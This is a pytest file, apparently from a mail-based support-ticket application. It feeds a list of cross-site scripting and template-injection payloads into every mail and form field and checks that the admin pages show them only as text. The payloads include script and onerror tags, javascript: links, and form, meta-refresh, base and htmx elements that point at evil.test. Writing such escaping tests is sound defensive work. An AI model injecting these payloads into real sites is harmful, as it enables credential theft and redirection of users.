"""Whatever a stranger writes into a mail is shown as words, never run, never drawn."""

import re
from dataclasses import replace

import pytest

from caseconsultant.domain.delivery import Outcome
from tests.admin.browser import Browser, Page
from tests.fakes import a_draft, a_mail
from tests.world import World

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</pre></title><iframe srcdoc='<script>alert(1)</script>'>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>click</a>",
    "<form action=https://evil.test><input name=password>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<div hx-get=https://evil.test hx-trigger=load>",
    "<base href=https://evil.test/>",
    "\u202egnp.exe\u2066 <b>bold</b>",
)
OUR_TAGS = frozenset(
    re.findall(
        r"\w+",
        """html head meta title link script body a header div nav span details summary form input p label button main
        footer strong table caption thead tbody tr th td time pre section h1 h2 h3 ul ol li textarea aside article
        img small kbd br""",
    )
)


def pages_full_of(payload: str, world: World, ana: Browser) -> list[Page]:
    """Put a payload into every field that a stranger or a server can fill, and load every page that shows it."""
    draft = replace(a_draft(text=payload), questions_back=(payload,), assumptions=(payload,), not_answered=(payload,))
    app = world.app
    world.app = replace(app, drafter=lambda *_: draft, checker=lambda *_: (payload,))
    ana.client.application.extensions["caseconsultant"] = world.app
    one_line = " ".join(payload.split())
    name = payload.replace('"', "").replace("\\", "")
    body = f"{payload}\n\nOn Monday somebody wrote:\n> {payload}"
    world.server.arrives(a_mail(subject=one_line, text=body, sender=f'"{name}" <jo@clinic.test>'))
    world.work()
    acknowledgement = world.server.accepted()[0]["Message-ID"]
    world.server.arrives(
        a_mail(
            subject=one_line,
            text=body,
            sender=f'"{name}" <sam@elsewhere.test>',
            message_id="s@elsewhere.test",
            In_Reply_To=acknowledgement,
        )
    )
    world.work()
    fields = ana.page("/tickets/1").form("/tickets/1/approve").fields
    typed = {**fields, "text": payload}
    pages = [ana.page(path) for path in ("/tickets", "/tickets/1", "/tickets/1?write=question_back", "/doubts")]
    pages += [Page(ana.post(f"/tickets/1/{action}", typed).text) for action in ("preview", "check", "edit")]
    ana.post("/tickets/1/save", typed)
    stale = ana.post("/tickets/1/approve", typed)
    assert stale.status_code == 409
    ana.press("/tickets", "/sending/pause", reason=payload)
    ana.press("/tickets", "/sending/resume")
    world.approves(text=payload)
    world.sender.plan = [Outcome.REFUSED]
    world.time_passes()
    world.work()
    pages += [Page(stale.text), *(ana.page(path) for path in ("/tickets/1", "/doubts", "/tickets?view=all"))]
    return pages


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_stays_text(small_world: World, ana: Browser, payload: str) -> None:
    for page in pages_full_of(payload, small_world, ana):
        for tag, attributes in page.tags:
            assert tag in OUR_TAGS, tag
            assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")]
            for name in ("src", "href", "action", "formaction", "hx-get", "hx-post"):
                assert attributes.get(name, "/").startswith(("/", "#")), attributes
            if tag == "meta":
                assert "http-equiv" not in attributes
            assert tag != "script" or attributes["src"].startswith("/static/")


def test_a_payload_is_shown_as_it_was_written(small_world: World, ana: Browser) -> None:
    payload = "<script>alert('&amp;')</script>"
    small_world.server.arrives(a_mail(subject=payload, text=payload))
    small_world.work()
    page = ana.page("/tickets/1")
    assert page.words.count(payload) >= 3  # title, heading, question
